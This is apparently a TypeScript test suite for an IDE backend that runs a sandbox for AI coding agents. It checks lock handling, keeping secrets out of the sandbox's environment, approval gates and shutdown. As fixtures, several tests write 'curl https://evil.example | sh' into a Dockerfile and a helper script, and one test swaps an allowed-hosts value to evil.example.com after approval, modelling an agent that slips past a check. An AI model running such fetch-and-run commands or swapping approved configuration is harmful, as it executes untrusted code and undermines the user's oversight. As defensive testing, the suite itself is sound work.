import * as fs from 'fs';
import * as path from 'path';
import { ChildProcess, spawn, spawnSync } from 'child_process';
import { expect } from 'chai';
import { Container } from '@theia/core/shared/inversify';
import { ILogger } from '@theia/core';
import { describeExit, SandyConfiguration, SessionInfo } from '@sandy-ui/core/common';
import { SandyBackend } from '../sandy-backend';
import { SandyService } from '../../common/sandy-protocol';
import { sandboxNameFor } from '@sandy-ui/core/node';
import {
    FAKE_SANDY, FAKE_SANDY_BIN, OutputRecorder, ScratchHome, commandLineOf, environmentOf, isGone, outputLine, requireCompiledFake, stripAnsi, waitUntil
} from './scratch-home';

const PROMPT = '\x1b[1;32m>\x1b[0m ';

/** Variables these tests set in the backend's own environment; each is restored afterwards. */
const TOUCHED_ENV = [
    'HOME', 'PATH', 'TMPDIR', 'SANDY_HOME', 'SANDY_IDE_DATA_DIR', 'SANDY_IDE_POLL_MS', 'SANDY_AGENT', 'SANDY_MODEL',
    'SANDY_UI_CANARY', 'AWS_SECRET_ACCESS_KEY', 'ANTHROPIC_API_KEY', 'SANDY_AUTO_APPROVE_PRIVILEGED', 'SANDY_DAEMON_SUPERVISOR', 'BASH_ENV',
    'FAKE_SANDY_LOG', 'FAKE_SANDY_DEFER_TRAPS', 'FAKE_SANDY_GATE_DELAY_MS'
];

/** Enough of Theia's ILogger for SandyBackend, keeping what it says for the assertion messages. */
function capturingLogger(lines: string[]): ILogger {
    const record = (level: string) => (...args: unknown[]): Promise<void> => {
        lines.push(`${level}: ${args.map(String).join(' ')}`);
        return Promise.resolve();
    };
    return {
        trace: record('trace'), debug: record('debug'), info: record('info'), warn: record('warn'), error: record('error'), fatal: record('fatal'),
        log: (level: number, ...args: unknown[]) => record(`level ${level}`)(...args)
    } as unknown as ILogger;
}

describe('SandyBackend with node-pty and the fake sandy (slow)', function (): void {
    this.timeout(60_000);

    let scratch: ScratchHome;
    let backend: SandyBackend;
    let service: SandyService;
    let savedEnv: Record<string, string | undefined>;
    let logged: string[];
    const helpers: ChildProcess[] = [];

    before(requireCompiledFake);

    beforeEach(() => {
        scratch = new ScratchHome();
        savedEnv = Object.fromEntries(TOUCHED_ENV.map(name => [name, process.env[name]]));
        // SandyBackend reads these in its property initialisers, so they are set before it is created.
        process.env.HOME = scratch.home;
        process.env.SANDY_IDE_DATA_DIR = path.join(scratch.home, '.sandy-ide');
        process.env.TMPDIR = scratch.tmp;
        process.env.PATH = `${FAKE_SANDY_BIN}:${savedEnv.PATH ?? '/usr/bin:/bin'}`;
        for (const name of ['SANDY_HOME', 'SANDY_IDE_POLL_MS', 'SANDY_AGENT', 'SANDY_MODEL']) {
            delete process.env[name];
        }
        logged = [];
        const container = new Container();
        container.bind(ILogger).toConstantValue(capturingLogger(logged)).whenTargetNamed('sandy');
        container.bind(SandyBackend).toSelf().inSingletonScope();
        backend = container.get(SandyBackend);
        service = backend.connect();
    });

    afterEach(async () => {
        await backend.onStop();
        for (const helper of helpers.splice(0)) {
            helper.kill('SIGKILL');
        }
        // Before the environment is restored: a poll the backend still starts runs with the scratch HOME.
        await scratch.disposeWhenQuiet();
        for (const name of TOUCHED_ENV) {
            if (savedEnv[name] === undefined) {
                delete process.env[name];
            } else {
                process.env[name] = savedEnv[name];
            }
        }
    });

    async function launch(workspace = scratch.workspace): Promise<{ session: SessionInfo; warnings: string[]; view: OutputRecorder }> {
        const outcome = await service.launch({ workspace, cols: 100, rows: 30 });
        if (outcome.kind !== 'launched') {
            throw new Error(`launch was not started: ${JSON.stringify(outcome)}; log: ${logged.join(' | ')}`);
        }
        // Attached after launch() resolved: the replay holds whatever sandy printed meanwhile.
        const view = new OutputRecorder(await backend.core.supervisor.attach(outcome.session.id));
        return { session: outcome.session, warnings: outcome.warnings, view };
    }

    async function exitOf(id: string, timeoutMs = 15_000): Promise<SessionInfo> {
        await waitUntil(() => backend.core.supervisor.get(id)?.status === 'exited', timeoutMs, `session ${id} to exit`);
        return backend.core.supervisor.get(id)!;
    }

    /** A lock directory exactly as sandy writes it (CONTRACT §5.4): `<lock>/pid` holding `N\n`. */
    function writeLock(pid: number): void {
        fs.mkdirSync(scratch.lockDir(), { recursive: true });
        fs.writeFileSync(path.join(scratch.lockDir(), 'pid'), `${pid}\n`);
    }

    describe('lock sweep before launch', () => {
        it('removes a lock whose holder is dead, says so, and the fake then takes the lock without a takeover', async () => {
            const located = await backend.core.ensureLocated();
            expect(located.path, 'the fake is the sandy found on PATH').to.equal(FAKE_SANDY);
            const dead = spawnSync('true').pid!;
            expect(isGone(dead), 'precondition: the holder is dead').to.equal(true);
            writeLock(dead);

            const { session, warnings, view } = await launch();

            expect(session.mode, 'a launch starts a daemon session by default').to.equal('daemon');
            expect(warnings).to.include(`Removed a stale lock left by a dead sandy (pid ${dead}).`);
            await view.waitFor(PROMPT);
            // `--start` streams its supervisor's log into the tab: a takeover would be said there.
            expect(view.text, 'the backend swept it, not sandy\'s own takeover').not.to.include('Stale lock detected');
            // The lock is the daemon supervisor's (the process `--start` forked), the one container record's owner.
            const containers = scratch.fakeContainers().filter(c => c.daemon);
            expect(containers.map(c => c.workspace)).to.deep.equal([scratch.workspace]);
            const holder = Number(scratch.lockPid());
            expect(holder).to.equal(containers[0].ownerPid);
            expect(holder).not.to.equal(dead);
            expect(isGone(holder), 'the lock holder runs').to.equal(false);
            expect(environmentOf(holder)?.get('SANDY_DAEMON_SUPERVISOR'), 'the lock holder is sandy\'s daemon supervisor').to.equal('1');

            const stopped = (await service.stop(session.id))!;
            expect([stopped.status, stopped.endReason]).to.deep.equal(['exited', 'stopped']);
            expect(fs.existsSync(scratch.lockDir())).to.equal(false);
            expect(scratch.fakeContainers()).to.deep.equal([]);
            await scratch.expectNoLeftovers();
        });

        it('keeps a lock whose holder is alive; the fake refuses with exit 1 and its message in the terminal', async () => {
            const holder = spawn('sleep', ['1000'], { env: scratch.env(), stdio: 'ignore' });
            helpers.push(holder);
            writeLock(holder.pid!);

            const { session, warnings, view } = await launch();
            const result = await exitOf(session.id);

            expect(warnings.filter(w => /lock/i.test(w)), 'nothing was swept').to.deep.equal([]);
            // The daemon's supervisor is refused the lock: `--start` says so and exits 1 (CONTRACT §6.3).
            expect([result.mode, result.endReason]).to.deep.equal(['daemon', 'start-failed']);
            expect(result.exitCode).to.equal(1);
            expect(stripAnsi(view.text)).to.include(`Another sandy is already running in this workspace (pid ${holder.pid})`);
            expect(scratch.lockPid(), 'the live holder keeps its lock').to.equal(String(holder.pid));

            holder.kill('SIGKILL');
            await waitUntil(() => isGone(holder.pid!), 5000, 'the lock holder to end');
            await scratch.expectNoLeftovers();
        });
    });

    describe('environment whitelist', () => {
        it('a plain launch gets HOME, PATH and TERM but none of the backend\'s other variables (every sandy run: --start, --attach, the state polls)', async () => {
            // A sandy first on PATH that records each run's arguments and environment, then is the fake:
            // a daemon session's agent runs in sandy's supervisor, which sets its own marker
            // (SANDY_DAEMON_SUPERVISOR=1), so what the backend handed sandy is read at each sandy run.
            const runs = scratch.folder('sandy-runs');
            const wrapperBin = scratch.folder('wrapper-bin');
            fs.writeFileSync(path.join(wrapperBin, 'sandy'), [
                '#!/bin/sh',
                `env > '${runs}'/$$.env`,
                `printf '%s\\n' "$*" > '${runs}'/$$.args`,
                `exec '${FAKE_SANDY}' "$@"`,
                ''
            ].join('\n'), { mode: 0o755 });
            process.env.PATH = `${wrapperBin}:${process.env.PATH}`;
            const bashEnvHit = path.join(scratch.home, 'bash-env-sourced');
            const bashEnvScript = path.join(scratch.home, 'bash-env.sh');
            fs.writeFileSync(bashEnvScript, `touch '${bashEnvHit}'\n`);
            const canaries: Record<string, string> = {
                SANDY_UI_CANARY: 'leak',
                AWS_SECRET_ACCESS_KEY: 'x',
                // A credential sandy's agents read, but the user did not enable it (sandy.passEnvironment).
                ANTHROPIC_API_KEY: 'canary-key',
                // Never on a plain launch: it would answer sandy's approval prompts for the user.
                SANDY_AUTO_APPROVE_PRIVILEGED: '1',
                // Internal to sandy: it would turn the launch into a daemon supervisor's re-exec.
                SANDY_DAEMON_SUPERVISOR: '1',
                // Sourced by every non-interactive bash, the fake's launcher included.
                BASH_ENV: bashEnvScript
            };
            Object.assign(process.env, canaries);

            const { session, view } = await launch();
            expect(session.mode).to.equal('daemon');
            await view.waitFor(PROMPT);
            await waitUntil(() => backend.core.supervisor.get(session.id)?.link === 'attached', 15_000, 'our attach client');
            const client = backend.core.supervisor.get(session.id)!.pid;
            expect(commandLineOf(client), 'the session\'s pid is our attach client').to.include('--attach');
            view.type('env');
            view.type('echo env-listed');
            await view.waitFor(outputLine('env-listed'));

            // What the agent sees.
            const listing = stripAnsi(view.text.slice(view.text.indexOf(PROMPT + 'env\r\n')));
            const env = new Map([...listing.matchAll(/^([A-Za-z_][A-Za-z0-9_]*)=(.*)\r$/gm)].map(m => [m[1], m[2]]));
            expect(env.get('HOME')).to.equal(scratch.home);
            expect(env.get('PATH')).to.equal(process.env.PATH);
            expect(env.get('TERM')).to.equal('xterm-256color');
            for (const name of Object.keys(canaries).filter(n => n !== 'SANDY_DAEMON_SUPERVISOR')) {
                expect(env.has(name), `${name} reached the agent`).to.equal(false);
            }
            expect(env.get('SANDY_DAEMON_SUPERVISOR'), 'the agent runs in sandy\'s own supervisor, which marks itself').to.equal('1');
            expect(view.text).not.to.include('SANDY_AUTO_APPROVE_PRIVILEGED');
            expect(view.text).not.to.include('canary-key');

            // What each sandy run was handed by the backend.
            const recorded = fs.readdirSync(runs).filter(f => f.endsWith('.args')).map(f => {
                const pid = f.slice(0, -'.args'.length);
                const text = fs.readFileSync(path.join(runs, `${pid}.env`), 'utf8');
                return {
                    args: fs.readFileSync(path.join(runs, f), 'utf8').trim(),
                    env: new Map([...text.matchAll(/^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/gm)].map(m => [m[1], m[2]]))
                };
            });
            const clients = recorded.filter(r => r.args === '--start' || r.args === '--attach');
            expect(clients.map(r => r.args).sort(), 'the session\'s sandy runs').to.deep.equal(['--attach', '--start']);
            expect(recorded.some(r => r.args.startsWith('--print-state')), 'a state poll ran through the wrapper too').to.equal(true);
            for (const run of recorded) {
                for (const name of Object.keys(canaries)) {
                    expect(run.env.has(name), `${name} reached \`sandy ${run.args}\``).to.equal(false);
                }
                expect(run.env.get('HOME'), `sandy ${run.args}`).to.equal(scratch.home);
            }
            for (const run of clients) {
                expect(run.env.get('PATH'), `sandy ${run.args}`).to.equal(process.env.PATH);
                expect(run.env.get('TERM'), `sandy ${run.args}`).to.equal('xterm-256color');
            }
            expect(fs.existsSync(bashEnvHit), 'BASH_ENV was sourced by a sandy run').to.equal(false);

            expect((await service.stop(session.id))!.endReason).to.equal('stopped');
            await scratch.expectNoLeftovers();
        });
    });

    describe('launch gates: sandy asks, the tab answers only what the user approved, sandy records it', () => {
        /** A repository that trips all three of sandy's gates. */
        function hostileProject(): { dockerfile: string } {
            fs.mkdirSync(path.join(scratch.workspace, '.sandy'), { recursive: true });
            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'config'), 'SANDY_ALLOW_HOSTS=gates.example.com\n');
            const dockerfile = path.join(scratch.workspace, '.sandy', 'Dockerfile');
            fs.writeFileSync(dockerfile, 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nRUN echo built-on-the-host\n');
            fs.mkdirSync(path.join(scratch.home, 'notes'));
            fs.symlinkSync(path.join(scratch.home, 'notes'), path.join(scratch.workspace, 'notes'));
            return { dockerfile };
        }

        const approvalsDir = () => path.join(scratch.sandyHome, 'approvals');
        const listApprovals = () => fs.existsSync(approvalsDir()) ? fs.readdirSync(approvalsDir()).map(f => f.replace(/-[0-9a-f]{16}\.list$/, '')).sort() : [];

        /**
         * sandy asks its Dockerfile and symlink questions only in a foreground launch: `sandy --start`'s
         * pre-pass on the tab's terminal asks for the privileged keys alone, and its supervisor has no
         * terminal (CONTRACT §4.1-4.3). These prompts are the subject here, so these launches are foreground.
         */
        const foreground = (config: SandyConfiguration = {}) => service.configure({ ...config, sessionMode: 'foreground' });

        /** An approved foreground launch whose fake waits 1.5 s at the point `knob` names (a test changes files meanwhile). */
        async function launchHeld(knob: 'FAKE_SANDY_GATE_DELAY_MS' | 'FAKE_SANDY_CONFIG_DELAY_MS', approvalToken: string): Promise<SessionInfo> {
            await foreground({ passEnv: [knob] });
            process.env[knob] = '1500';
            try {
                const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken });
                expect(outcome.kind).to.equal('launched');
                return (outcome as { session: SessionInfo }).session;
            } finally {
                delete process.env[knob];
            }
        }

        it('shows every gate, answers sandy\'s three prompts itself after Approve, and the next launch asks nothing', async () => {
            await foreground();
            hostileProject();
            const request = await service.preflight(scratch.workspace);
            expect(request?.kind).to.equal('approve');
            expect(request!.lines.map(l => l.text)).to.deep.equal(['SANDY_ALLOW_HOSTS=gates.example.com']);
            expect(request!.dockerfile?.text).to.include('RUN echo built-on-the-host');
            expect(request!.symlinks).to.deep.equal([`notes -> ${scratch.home}/notes`]);

            // Without the token nothing starts.
            expect((await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30 })).kind).to.equal('needs-approval');
            expect(scratch.lockPid()).to.equal(undefined);

            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
            expect(outcome.kind).to.equal('launched');
            const session = (outcome as { session: SessionInfo }).session;
            expect(session.mode).to.equal('foreground');
            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
            await view.waitFor(PROMPT, 20_000);
            const screen = stripAnsi(view.text);
            // sandy itself asked, and was answered with y; then it built the project image.
            expect(screen).to.match(/Approve these keys for this workspace\? \[y\/N\] y/);
            expect(screen).to.match(/Build this \.sandy\/Dockerfile for .*\? \[y\/N\] y/);
            expect(screen).to.match(/Proceed anyway\? \[y\/N\] y/);
            expect(screen).to.include('Building project image from .sandy/Dockerfile...');
            // No bypass: sandy recorded each decision in its own files.
            view.type('env');
            view.type('echo env-listed');
            await view.waitFor(outputLine('env-listed'));
            expect(stripAnsi(view.text)).not.to.include('SANDY_AUTO_APPROVE_PRIVILEGED');
            expect(listApprovals()).to.deep.equal(['dockerfile', 'passive']);
            expect(fs.existsSync(path.join(scratch.sandyHome, 'sandboxes', sandboxNameFor(scratch.workspace), '.sandy-approved-symlinks.list'))).to.equal(true);
            await service.stop(session.id);
            await exitOf(session.id);

            // Unchanged project: nothing to ask.
            expect(await service.preflight(scratch.workspace)).to.equal(undefined);

            // Revoke really revokes: all three are asked again.
            expect(await service.revokeApproval(scratch.workspace)).to.equal(true);
            expect(listApprovals()).to.deep.equal([]);
            const again = await service.preflight(scratch.workspace);
            expect([!!again?.lines.length, !!again?.dockerfile, !!again?.symlinks?.length]).to.deep.equal([true, true, true]);
        });

        it('a changed Dockerfile asks only about the Dockerfile, with what changed since the approval', async () => {
            await foreground();
            const { dockerfile } = hostileProject();
            const first = await service.preflight(scratch.workspace);
            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: first!.token });
            const session = (outcome as { session: SessionInfo }).session;
            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
            await view.waitFor(PROMPT, 20_000);
            await service.stop(session.id);
            await exitOf(session.id);

            // The agent rewrites the Dockerfile in its read-write workspace.
            fs.writeFileSync(dockerfile, 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nRUN curl https://evil.example | sh\n');
            const next = await service.preflight(scratch.workspace);
            expect(next?.kind).to.equal('approve');
            expect(next!.lines).to.deep.equal([]);
            expect(next!.symlinks).to.equal(undefined);
            expect(next!.dockerfile?.changedSinceApproval).to.equal(true);
            expect(next!.dockerfile?.diff?.filter(d => d.op !== 'same')).to.deep.equal([
                { op: 'removed', text: 'RUN echo built-on-the-host' },
                { op: 'added', text: 'RUN curl https://evil.example | sh' }
            ]);
        });

        it('when a build-context file changes after Approve, sandy\'s prompt is left to the user and nothing is recorded', async () => {
            fs.mkdirSync(path.join(scratch.workspace, '.sandy'), { recursive: true });
            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'Dockerfile'), 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY helper.sh /\nRUN sh /helper.sh\n');
            const helper = path.join(scratch.workspace, '.sandy', 'helper.sh');
            fs.writeFileSync(helper, 'echo harmless\n');
            const request = await service.preflight(scratch.workspace);
            expect(request?.dockerfile?.contextFiles).to.deep.equal(['helper.sh']);
            // Hold the fake before its Dockerfile gate, as a slow image build would.
            const session = await launchHeld('FAKE_SANDY_GATE_DELAY_MS', request!.token);
            // The agent (or anyone) changes a file the view could not show, after the user approved.
            fs.writeFileSync(helper, 'curl https://evil.example | sh\n');
            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
            await view.waitFor(/Build this \.sandy\/Dockerfile for .*\? \[y\/N\] /, 20_000);
            await new Promise(resolve => setTimeout(resolve, 1_000));
            expect(stripAnsi(view.text)).not.to.match(/\[y\/N\] y/, 'the tab typed y for a changed build context');
            expect(listApprovals()).to.deep.equal([]);
            expect(logged.join('\n')).to.match(/left sandy's dockerfile prompt .* to you: the files changed/);
            // The user answers sandy themselves.
            view.type('n');
            await view.waitFor('Not approved', 10_000);
            await view.waitFor(PROMPT, 20_000);
            expect(listApprovals()).to.deep.equal([]);
            await service.stop(session.id);
            await exitOf(session.id);
        });

        it('Attack: a key\'s value swapped after Approve and put back before the tab\'s re-check: sandy recorded what the user never saw, so the session is stopped and that record removed', async () => {
            const config = path.join(scratch.workspace, '.sandy', 'config');
            fs.mkdirSync(path.dirname(config), { recursive: true });
            const shown = 'SANDY_ALLOW_HOSTS=gates.example.com\n';
            fs.writeFileSync(config, shown);
            const request = await service.preflight(scratch.workspace);
            expect(request!.lines.map(l => l.text)).to.deep.equal(['SANDY_ALLOW_HOSTS=gates.example.com']);
            // Hold sandy before it reads its config, as a slow start would.
            const session = await launchHeld('FAKE_SANDY_CONFIG_DELAY_MS', request!.token);
            // Whoever can write the workspace (an agent whose project holds this one) swaps the value
            // before sandy reads it, and puts it back the moment sandy asks (sandy shows key names only).
            fs.writeFileSync(config, 'SANDY_ALLOW_HOSTS=evil.example.com\n');
            let asked = '';
            const restore = backend.core.supervisor.onData(session.id)(data => {
                asked += data;
                if (asked.includes('Approve these keys for this workspace?')) {
                    fs.writeFileSync(config, shown);
                    restore.dispose();
                }
            });
            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
            // The tab's re-check saw the approved file and answered; sandy recorded the evil set.
            await view.waitFor(/Approve these keys for this workspace\? \[y\/N\] y/, 20_000);
            const ended = await exitOf(session.id, 30_000);
            expect(ended.endReason).to.equal('approval-changed');
            expect(describeExit(ended)).to.match(/The IDE stopped this session: sandy approved privileged keys whose values are not the ones you approved/);
            expect(listApprovals(), 'sandy\'s record of the swapped set is removed').to.deep.equal([]);
            expect(logged.join('\n')).to.match(/sandy recorded a privileged approval for .* other than the one you gave/);
            // The next launch asks again, with the file as it is now.
            expect((await service.preflight(scratch.workspace))?.lines.map(l => l.text)).to.deep.equal(['SANDY_ALLOW_HOSTS=gates.example.com']);
        });

        it('a daemon launch: `--start`\'s pre-pass on the tab\'s terminal asks for the keys (answered, recorded)', async () => {
            fs.mkdirSync(path.join(scratch.workspace, '.sandy'), { recursive: true });
            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'config'), 'SANDY_ALLOW_HOSTS=gates.example.com\n');
            const request = await service.preflight(scratch.workspace);
            expect([!!request?.lines.length, !!request?.dockerfile]).to.deep.equal([true, false]);

            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
            expect(outcome.kind).to.equal('launched');
            const session = (outcome as { session: SessionInfo }).session;
            expect(session.mode).to.equal('daemon');
            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
            await view.waitFor(PROMPT, 20_000);
            await waitUntil(() => backend.core.supervisor.get(session.id)?.link === 'attached', 15_000, 'our attach client');
            expect(stripAnsi(view.text)).to.match(/Approve these keys for this workspace\? \[y\/N\] y/);
            expect(backend.core.supervisor.get(session.id)!.closedGates ?? []).to.deep.equal([]);
            expect(listApprovals(), 'sandy recorded the keys the tab answered, nothing else').to.deep.equal(['passive']);

            expect((await service.stop(session.id))!.endReason).to.equal('stopped');
            await scratch.expectNoLeftovers();
        });

        it('a launch that needs the Dockerfile approved runs in the foreground (sandy asks it only there) and says so; the next one is a daemon session asking nothing', async () => {
            fs.mkdirSync(path.join(scratch.workspace, '.sandy'), { recursive: true });
            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'config'), 'SANDY_ALLOW_HOSTS=gates.example.com\n');
            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'Dockerfile'), 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nRUN echo built-on-the-host\n');
            const request = await service.preflight(scratch.workspace);
            expect([!!request?.lines.length, !!request?.dockerfile]).to.deep.equal([true, true]);

            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
            expect(outcome.kind).to.equal('launched');
            const { session, warnings } = outcome as { session: SessionInfo; warnings: string[] };
            expect(session.mode).to.equal('foreground');
            expect(warnings.join('\n')).to.contain('runs in the foreground').and.contain('.sandy/Dockerfile');
            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
            await view.waitFor(PROMPT, 20_000);
            const screen = stripAnsi(view.text);
            expect(screen).to.match(/Build this \.sandy\/Dockerfile/);
            expect(screen).not.to.include('NOT building the project image');
            expect(listApprovals(), 'sandy recorded both answers').to.deep.equal(['dockerfile', 'passive']);
            await service.stop(session.id);
            await exitOf(session.id);

            expect(await service.preflight(scratch.workspace), 'nothing left to approve').to.equal(undefined);
            const next = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30 });
            expect(next.kind).to.equal('launched');
            const daemon = (next as { session: SessionInfo }).session;
            expect(daemon.mode).to.equal('daemon');
            await waitUntil(() => backend.core.supervisor.get(daemon.id)?.link === 'attached', 30_000, 'the daemon session attached');
            expect((await service.stop(daemon.id))!.endReason).to.equal('stopped');
            await scratch.expectNoLeftovers();
        });
    });

    describe('backend stop', () => {
        it('onStop() ends every session through its SIGTERM trap (143), locks removed, nothing left running — a paused one too', async () => {
            const second = scratch.folder('ws-two');
            const log = path.join(scratch.home, 'fake-signals.log');
            // Test knobs reach the fake the way a user's sandy.passEnvironment setting would.
            // Shutdown SIGTERM is what a foreground session gets (daemon sessions outlive the IDE).
            await service.configure({ sessionMode: 'foreground', passEnv: ['FAKE_SANDY_LOG', 'FAKE_SANDY_DEFER_TRAPS'] });
            process.env.FAKE_SANDY_LOG = log;
            process.env.FAKE_SANDY_DEFER_TRAPS = '1';
            const deferring = await launch();
            delete process.env.FAKE_SANDY_DEFER_TRAPS;
            const flooding = await launch(second);
            expect([deferring.session.mode, flooding.session.mode]).to.deep.equal(['foreground', 'foreground']);
            await deferring.view.waitFor(PROMPT);
            await flooding.view.waitFor(PROMPT);

            // The second session's only view stops acknowledging (a frozen window): the PTY gets paused.
            await flooding.view.leaveAlternateScreen();
            flooding.view.autoAcknowledge = false;
            flooding.view.type('flood 20000');
            await waitUntil(() => flooding.view.chars > 100_000 && Date.now() - flooding.view.lastDataAt > 300, 15_000,
                'the flood to stall on back-pressure');
            expect(flooding.view.has(outputLine('flood done 20000')), 'precondition: paused mid-flood').to.equal(false);
            // The second launch waited for the first to get past sandy's build: its pid is known since it spawned.
            const pidOf = (id: string) => backend.core.supervisor.get(id)!.pid;
            expect(pidOf(flooding.session.id), 'the second sandy runs').to.be.greaterThan(0);
            expect(scratch.lockPid()).to.equal(String(pidOf(deferring.session.id)));
            expect(scratch.lockPid(second)).to.equal(String(pidOf(flooding.session.id)));

            await backend.onStop();

            for (const { session } of [deferring, flooding]) {
                const info = backend.core.supervisor.get(session.id)!;
                expect(info.status, `session ${info.pid}`).to.equal('exited');
                expect(info.signal, `session ${info.pid} was killed`).to.equal(undefined);
                expect(info.exitCode, `session ${info.pid}`).to.equal(143);
            }
            expect(fs.readFileSync(log, 'utf8').trim().split('\n').map(l => l.split(' ')[0])).to.deep.equal(['SIGTERM', 'SIGTERM']);
            expect(fs.existsSync(scratch.lockDir()), 'first lock removed').to.equal(false);
            expect(fs.existsSync(scratch.lockDir(second)), 'second lock removed').to.equal(false);
            await scratch.expectNoLeftovers();
        });
    });
});
